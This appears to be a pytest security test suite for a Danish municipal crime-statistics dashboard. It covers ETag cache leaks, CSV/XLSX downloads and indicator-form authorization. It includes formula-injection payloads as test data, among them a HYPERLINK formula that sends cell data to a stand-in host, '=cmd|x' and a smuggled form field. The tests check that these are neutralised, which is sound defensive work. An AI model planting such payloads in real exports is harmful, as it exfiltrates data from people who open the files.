"""Issue 25's new features attacked from outside: the data ETags (``dke_dashboard/conditional.py``), the new
download formats (``….da.csv``, XLSX with "Om tallene", the comparison's downloads) and the indicator forms.

Each test is a probe an outsider (or a curious colleague) would try; a test that pins a hole found here says so.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group

from accounts.models import Membership

pytestmark = pytest.mark.django_db

DATA_PAGES = ["/kommune/165/", "/kommune/165/figur/reports-per-1000/", "/kommune/165/sammenligning/",
              "/kommune/165/maal/", "/kommune/165/figur/reports-per-1000.csv?period_from=2016&period_to=2017",
              "/kommune/165/sammenligning.csv"]
PUBLIC_PAGES = ["/kommune/165/", "/kommune/165/figur/charges-by-category/",
                "/kommune/165/figur/reports-per-1000.da.csv?period_from=2016&period_to=2017"]


@pytest.fixture
def public(reference):
    albertslund = reference["165"]
    albertslund.public_view = True
    albertslund.save()
    return albertslund


def etag_of(client, url, **headers):
    response = client.get(url, **headers)
    assert response.status_code == 200, (url, response.status_code)
    return response["ETag"]


# --- 1. cache leaks ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", PUBLIC_PAGES)
def test_if_none_match_star_is_no_licence_for_a_304(client, public, url):
    """``If-None-Match: *`` matched every tag: a 304 confirmed a page the reader never held (and skipped the
    view's own checks, e.g. an unknown municipality's 404). Now it is a normal request."""
    response = client.get(url, HTTP_IF_NONE_MATCH="*")
    assert response.status_code == 200
    assert response.content


def test_star_for_a_logged_in_user_renders_and_a_missing_municipality_is_still_404(client, reference, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    assert client.get("/kommune/165/sammenligning/", HTTP_IF_NONE_MATCH="*").status_code == 200
    assert client.get("/kommune/999/sammenligning/", HTTP_IF_NONE_MATCH="*").status_code == 404


def test_a_list_of_tags_matches_only_the_readers_own(client, public, django_user_model, member):
    """An anonymous tag, another user's tag and garbage in one list give the leder no 304."""
    anonymous = etag_of(client, "/kommune/165/")
    other = django_user_model.objects.create_superuser("other", password="x-kode-1234")
    client.force_login(other)
    others = etag_of(client, "/kommune/165/sammenligning/")
    client.logout()
    leder = member("Leder", public)
    client.force_login(leder)
    sent = f'{anonymous}, W/{others}, "x", W/"*"'
    assert client.get("/kommune/165/sammenligning/", HTTP_IF_NONE_MATCH=sent).status_code == 200
    own = etag_of(client, "/kommune/165/sammenligning/")
    assert client.get("/kommune/165/sammenligning/", HTTP_IF_NONE_MATCH=f'"x", W/{own}').status_code == 304


def test_no_304_across_role_change_logout_language_data_or_public_switch(client, public, member):
    url = "/kommune/165/sammenligning/"
    leder = member("Leder", public)
    client.force_login(leder)
    tag = etag_of(client, url)
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 304
    # another language
    assert client.get(url, HTTP_IF_NONE_MATCH=tag, HTTP_ACCEPT_LANGUAGE="en").status_code in (200,)
    client.cookies["django_language"] = "en"
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 200
    del client.cookies["django_language"]
    # the role removed: the page is refused, not confirmed
    Membership.objects.filter(user=leder).delete()
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 403
    Membership.objects.create(user=leder, municipality=public, role=Group.objects.get(name="Leder"))
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 304
    # another role (the same municipality)
    Membership.objects.filter(user=leder).update(role=Group.objects.get(name="Analytiker"))
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 200
    Membership.objects.filter(user=leder).update(role=Group.objects.get(name="Leder"))
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 304
    # logout: the public (or the next person at the PC) never gets a 304 for the leder's page
    client.logout()
    response = client.get(url, HTTP_IF_NONE_MATCH=tag)
    assert response.status_code == 200 and response.content  # the public comparison, rendered afresh
    anonymous = client.get("/kommune/165/", HTTP_IF_NONE_MATCH=tag)
    assert anonymous.status_code == 200
    # a new login of the same user: a new CSRF secret, a new page
    client.force_login(leder)
    client.get("/")  # the login rotates the CSRF secret on the next request that needs it
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 200
    # new data
    tag = etag_of(client, url)
    from reports.versioning import data_changed

    data_changed()
    assert client.get(url, HTTP_IF_NONE_MATCH=tag).status_code == 200


def test_public_view_switched_off_answers_no_304(client, public):
    tag = etag_of(client, "/kommune/165/")
    assert client.get("/kommune/165/", HTTP_IF_NONE_MATCH=tag).status_code == 304
    public.public_view = False
    public.save()
    response = client.get("/kommune/165/", HTTP_IF_NONE_MATCH=tag)
    assert response.status_code == 302 and "/konto/" in response["Location"] or "login" in response["Location"]


def test_a_staff_tag_gives_the_public_no_304_and_the_public_tag_no_staff_304(client, public, django_user_model):
    anonymous = etag_of(client, "/kommune/165/figur/reports-per-1000/")
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    assert client.get("/kommune/165/figur/reports-per-1000/", HTTP_IF_NONE_MATCH=anonymous).status_code == 200
    staff = etag_of(client, "/kommune/165/figur/reports-per-1000/")
    client.logout()
    assert client.get("/kommune/165/figur/reports-per-1000/", HTTP_IF_NONE_MATCH=staff).status_code == 200


def test_304s_and_revalidated_pages_stay_private(client, public):
    tag = etag_of(client, "/kommune/165/")
    response = client.get("/kommune/165/", HTTP_IF_NONE_MATCH=tag)
    assert response.status_code == 304
    assert response["Cache-Control"] == "private, no-cache"
    assert response.content == b""


def test_logout_clears_the_browsers_cache_of_the_site(client, public, member):
    """A leder's comparison page is kept by the browser (``private, no-cache``); after logout on a shared PC the
    Back button showed it from the cache. Logout now sends ``Clear-Site-Data: "cache"``."""
    client.force_login(member("Leder", public))
    assert client.get("/kommune/165/sammenligning/")["Cache-Control"] == "private, no-cache"
    response = client.post("/konto/logout/")
    assert response.status_code == 302
    assert response["Clear-Site-Data"] == '"cache"'
    assert "no-store" in response["Cache-Control"]


def test_the_indicators_page_is_not_stored_when_an_indicator_follows_charged_persons(client, public, member):
    """The indicators page counted as aggregates (``private, no-cache``: kept on the disk of a shared PC), but an
    indicator of the young people's share charged shows that share in full precision (the chart's data), which
    with the population gives the exact count of charged 15-17-year-olds: such a page is ``no-store`` now."""
    from comparisons.models import Indicator

    client.force_login(member("Leder", public))
    aggregates = client.get("/kommune/165/maal/")
    assert aggregates["Cache-Control"] == "private, no-cache" and aggregates.has_header("ETag")
    Indicator.objects.create(municipality=public, name="Unge sigtede", measure="figure:young-charged-share:15-17",
                             baseline_period="2016", target_period="2020", target_change_pct=-10)
    personal = client.get("/kommune/165/maal/")
    assert personal.status_code == 200
    assert personal["Cache-Control"] == "private, no-store" and not personal.has_header("ETag")
    # another municipality's personal indicator changes nothing here
    Indicator.objects.filter(name="Unge sigtede").delete()
    from districts.models import Municipality

    Indicator.objects.create(municipality=Municipality.objects.get(code="169"), name="Unge", target_change_pct=-10,
                             measure="figure:young-charged-share:15-17", baseline_period="2016", target_period="2020")
    assert client.get("/kommune/165/maal/")["Cache-Control"] == "private, no-cache"


# --- 3. hostile text in the new downloads ----------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"klik")'


def danish_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def about_sheet(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book.worksheets[0], book.worksheets[1]


@pytest.fixture
def hostile_town(town, django_user_model, client):
    """The town with a district named like a formula with ``;`` and quotes, and one with a line break."""
    from districts.models import District

    District.objects.filter(municipality=town, name="Vester").update(name=HOSTILE)
    District.objects.filter(municipality=town, name="Lund").update(name="Lund;\r\nNord\t\"x\"")
    from reports.aggregates import aggregates_refresh

    aggregates_refresh(municipality_ids={town.pk})
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    return client


def test_danish_csv_quotes_and_escapes_hostile_district_names(hostile_town):
    response = hostile_town.get("/kommune/165/figur/reports-per-1000.da.csv?period_from=2016&period_to=2016")
    assert response.status_code == 200
    rows = danish_rows(response.content)
    width = len(rows[0])
    assert all(len(row) == width for row in rows)  # ";" and CR/LF inside a name split no row
    districts = {row[rows[0].index("Bydel")] for row in rows[1:]}
    assert "'" + HOSTILE in districts and HOSTILE not in districts
    assert "Lund;\nNord\t\"x\"" in districts  # the CR became a line feed inside the quoted cell


def test_xlsx_and_its_about_sheet_hold_hostile_filters_as_text(hostile_town):
    from urllib.parse import urlencode

    query = urlencode([("period_from", "2016"), ("period_to", "2016"), ("districts", HOSTILE)])
    response = hostile_town.get(f"/kommune/165/figur/reports-per-1000.xlsx?{query}")
    assert response.status_code == 200
    data, about = about_sheet(response.content)
    cells = [c for sheet in (data, about) for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    lines = {row[0].value: row[1] for row in about.iter_rows()}
    assert lines["Bydele"].value == HOSTILE and lines["Bydele"].quotePrefix


def test_control_characters_in_names_do_not_break_the_xlsx(town, client, django_user_model):
    """A district, municipality or category name with a control character (ESC, VT, SOH, BS) made openpyxl refuse
    the workbook: every XLSX of the municipality answered 500. They are left out of the XLSX's cells now."""
    from districts.models import District
    from reports.aggregates import aggregates_refresh
    from reports.models import OffenceCategory

    District.objects.filter(municipality=town, name="Vester").update(name="Vester\x0b\x1b[31m")
    town.name = "Albert\x01slund"
    town.save()
    OffenceCategory.objects.filter(slug="vold").update(name="Vold\x08")
    aggregates_refresh(municipality_ids={town.pk})
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    response = client.get("/kommune/165/figur/charges-by-category.xlsx?period_from=2016&period_to=2016")
    assert response.status_code == 200
    data, about = about_sheet(response.content)
    texts = {c.value for row in data.iter_rows() for c in row if isinstance(c.value, str)}
    assert {"Vester[31m", "Vold"} <= texts
    assert {row[0].value: row[1].value for row in about.iter_rows()}["Kommune"] == "Albertslund (165)"
    for url in ("/kommune/165/sammenligning.xlsx", "/kommune/165/figur/charges-by-category.da.csv?period_from=2016&period_to=2016"):
        assert client.get(url).status_code == 200


def test_comparison_downloads_hold_hostile_peers_as_text(client, reference, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    for fmt in ("da.csv", "xlsx", "csv", "json"):
        response = client.get(f"/kommune/165/sammenligning.{fmt}", {"peers": "=1+1;@A1", "category": "=cmd|x"})
        assert response.status_code in (200, 400), (fmt, response.status_code)
        if response.status_code == 400:
            assert response["Content-Type"].startswith("text/plain")
            assert response.content.decode()  # a Danish reason
            continue
        if fmt == "xlsx":
            data, about = about_sheet(response.content)
            cells = [c for sheet in (data, about) for row in sheet.iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize(("query", "reason"), [
    ("districts=Vester&districts=Ukendt", "Vester"),
    ("categories=findes-ikke", "findes-ikke"),
    ("period_from=2016K5&period_to=2017", "2016K5"),
    ("period_from=0000&period_to=2016", "uden for årene 1900–2100"),  # was a 500 (year 0)
    ("period_from=2016&period_to=9999", "uden for årene 1900–2100"),
    ("period_from=1000&period_to=9998", "uden for årene 1900–2100"),  # was 9,000 years: 26 s and 77 MB for a page
    ("period_from=1900K1&period_to=2100K4", "højst 50 år"),  # 804 quarters (1,200 took 3 s and 10 MB)
    ("period_from=2017&period_to=2016", "før"),
    ("date_basis=%F0%9F%92%A3", "💣"),
    ("period_from=" + "9" * 500, "Fra periode"),
])
@pytest.mark.parametrize("fmt", ["da.csv", "xlsx", "csv"])
def test_odd_queries_on_the_downloads_answer_400_in_danish_never_500_nor_the_default(hostile_town, query, reason,
                                                                                     fmt):
    """A download whose filters are wrong said nothing and gave the default period (or a 500 for year 0)."""
    response = hostile_town.get(f"/kommune/165/figur/charges-by-category.{fmt}?{query}")
    assert response.status_code == 400, (query, response.status_code)
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert reason in response.content.decode()


def test_thousands_of_districts_or_categories_get_a_danish_400_page(hostile_town):
    """Django refuses over 1,000 parameters (``TooManyFieldsSent``) with a 400 page: it was Django's English one."""
    for url in ["/kommune/165/figur/charges-by-category.da.csv?", "/kommune/165/sammenligning.xlsx?",
                "/kommune/165/?"]:
        response = hostile_town.get(url + "&".join(f"districts=Bydel{i}" for i in range(2000)))
        assert response.status_code == 400
        assert "Adressen kan ikke bruges" in response.content.decode() and "højst 1.000" in response.content.decode()


@pytest.mark.parametrize("url", ["/kommune/165/?period_from=1000&period_to=9998",
                                 "/kommune/165/figur/reports-per-1000/?period_from=1000&period_to=9998",
                                 "/kommune/165/figur/reports-per-1000.da.csv?period_from=1000&period_to=9998",
                                 "/kommune/165/?period_from=1990&period_to=2049",
                                 "/kommune/165/?period_from=0000&period_to=2016"])
def test_the_public_cannot_ask_for_thousands_of_years(client, town, url):
    town.public_view = True
    town.save()
    response = client.get(url)
    assert response.status_code == 400, url  # pages and downloads alike: never the default period instead
    assert ("uden for årene 1900–2100" in response.content.decode() or "50 år" in response.content.decode()), url


def test_fifty_years_of_quarters_still_open(hostile_town):
    response = hostile_town.get("/kommune/165/figur/reports-per-1000.da.csv?period_from=2000K1&period_to=2049K4")
    assert response.status_code == 200
    assert len(danish_rows(response.content)) > 200


@pytest.mark.parametrize("query", [
    "category=" + "&category=".join(f"X{i}" for i in range(2000)),
    "period_from=2016K5", "period_from=0000&period_to=9999", "period_from=2017&period_to=2016",
    "period_from=1000&period_to=9998",
    "peers=" + ",".join(["101"] * 3000), "peers=%F0%9F%92%A3",
])
@pytest.mark.parametrize("fmt", ["da.csv", "xlsx"])
def test_odd_queries_on_the_comparison_downloads_answer_400_never_500(client, reference, django_user_model,
                                                                      query, fmt):
    client.force_login(django_user_model.objects.create_superuser("chef", password="x-kode-1234"))
    response = client.get(f"/kommune/165/sammenligning.{fmt}?{query}")
    assert response.status_code in (200, 400), (query, response.status_code)
    if query.startswith(("period_from=0000", "period_from=1000")):  # was a 500 (year 0, and dates past year 9999)
        assert response.status_code == 400 and "uden for årene 1900–2100" in response.content.decode()


# --- 4. indicators ----------------------------------------------------------------------------------------------------

MEASURE = "metric:Andel utrygge"


@pytest.fixture
def two_towns(reference, member, client):
    """Albertslund (165) with a measure 2016 50 %, 2017 45 % and an indicator; Høje-Taastrup (169) with its own.
    The client is logged in as Albertslund's leder."""
    from comparisons.models import Indicator
    from reports.models import ActivityFigure

    a, b = reference["165"], reference["169"]
    for town in (a, b):
        ActivityFigure.objects.create(municipality=town, name="Andel utrygge", period="2016", value=50, unit="procent")
        ActivityFigure.objects.create(municipality=town, name="Andel utrygge", period="2017", value=45, unit="procent")
    own = Indicator.objects.create(municipality=a, name="Tryghed A", measure=MEASURE, baseline_period="2016",
                                   target_period="2020", target_change_pct=-10)
    theirs = Indicator.objects.create(municipality=b, name="Tryghed B", measure=MEASURE, baseline_period="2016",
                                      target_period="2020", target_change_pct=-10)
    client.force_login(member("Leder", a))
    return client, a, b, own, theirs


def form_data(**changes):
    return {"name": "Tryghed", "measure": MEASURE, "unit": "%", "direction": "down", "baseline_period": "2016",
            "target_period": "2020", "target_value": "", "target_change_pct": "-10", "order": "0", **changes}


def test_a_leder_cannot_touch_another_municipalitys_indicators(two_towns):
    from comparisons.models import Indicator

    client, a, b, own, theirs = two_towns
    assert client.get(f"/kommune/{b.code}/maal/ny/").status_code == 403
    assert client.post(f"/kommune/{b.code}/maal/ny/", form_data()).status_code == 403
    assert client.post(f"/kommune/{b.code}/maal/{theirs.pk}/", form_data(name="Overtaget")).status_code == 403
    # B's indicator under A's address: not found (the indicator is looked up in the municipality of the URL)
    assert client.get(f"/kommune/{a.code}/maal/{theirs.pk}/").status_code == 404
    assert client.post(f"/kommune/{a.code}/maal/{theirs.pk}/", form_data(name="Overtaget")).status_code == 404
    # A's indicator under B's address: the role is checked for B
    assert client.post(f"/kommune/{b.code}/maal/{own.pk}/", form_data(name="Flyttet")).status_code == 403
    # a municipality field smuggled into the form is ignored: the new indicator belongs to A
    response = client.post(f"/kommune/{a.code}/maal/ny/", {**form_data(name="Smuglet"), "municipality": b.pk})
    assert response.status_code == 302
    assert Indicator.objects.get(name="Smuglet").municipality == a
    theirs.refresh_from_db()
    assert theirs.name == "Tryghed B" and Indicator.objects.filter(municipality=b).count() == 1


def test_an_analyst_or_the_public_cannot_create_indicators(reference, member, client):
    client.force_login(member("Analytiker", reference["165"]))
    assert client.post("/kommune/165/maal/ny/", form_data()).status_code == 403
    client.logout()
    assert client.post("/kommune/165/maal/ny/", form_data()).status_code == 302  # to the login


@pytest.mark.parametrize(("changes", "field", "message"), [
    ({"baseline_period": "0000"}, "baseline_period", "er ikke et år"),  # was saved as "0": a 500 on the page
    ({"target_period": "9999"}, "target_period", "er ikke et år"),
    ({"baseline_period": "2016K1", "target_period": "2020K1"}, "baseline_period", "ikke et kvartal"),
    ({"baseline_period": "2016H1", "target_period": "2020"}, "target_period", "samme slags"),
    ({"target_period": "2015"}, "target_period", "efter udgangsperioden"),
    ({"target_change_pct": "inf"}, "target_change_pct", "tal"),
    ({"target_change_pct": "nan"}, "target_change_pct", "tal"),
    ({"target_change_pct": "-10", "target_value": "5"}, "target_value", "ikke begge"),
])
def test_indicator_form_refuses_odd_periods_and_targets_in_danish(two_towns, changes, field, message):
    client, a, *_rest = two_towns
    response = client.post(f"/kommune/{a.code}/maal/ny/", form_data(**changes))
    assert response.status_code == 200  # the form again, with the reason
    errors = response.context["form"].errors
    assert field in errors and message in " ".join(errors[field]), errors


@pytest.mark.parametrize(("changes", "target"), [
    ({"target_change_pct": "-100"}, "0,0"),  # 50 % → 0 %
    ({"target_change_pct": "-1000"}, "-450,0"),  # absurd, but a number: the page shows it
    ({"target_change_pct": "1e300"}, None),
    ({"target_value": "1e308", "target_change_pct": ""}, None),
    ({"baseline_period": "1900", "target_period": "2100"}, None),  # no value at the baseline: no target
])
def test_absurd_targets_render_the_indicators_page(two_towns, changes, target):
    client, a, *_rest = two_towns
    response = client.post(f"/kommune/{a.code}/maal/ny/", form_data(name="Absurd", **changes))
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    page = client.get(f"/kommune/{a.code}/maal/")
    assert page.status_code == 200
    if target:
        assert target in page.content.decode()


def test_the_first_and_last_years_allowed_render_everywhere(hostile_town):
    """At the edges of 1900–2100 (a previous period 1899 for the changes, a next period 2101) nothing is a 500."""
    for query in ("period_from=1900K1&period_to=1900K4&intervals=1", "period_from=2099&period_to=2100&intervals=1",
                  "period_from=2100H2&period_to=2100H2&intervals=1"):
        for path in ("/kommune/165/", "/kommune/165/figur/charges-by-category/",
                     "/kommune/165/figur/reports-per-1000.xlsx", "/kommune/165/figur/young-charged-share.da.csv",
                     "/kommune/165/sammenligning/", "/kommune/165/sammenligning.xlsx"):
            response = hostile_town.get(f"{path}?{query}")
            assert response.status_code in (200, 400), (path, query, response.status_code)
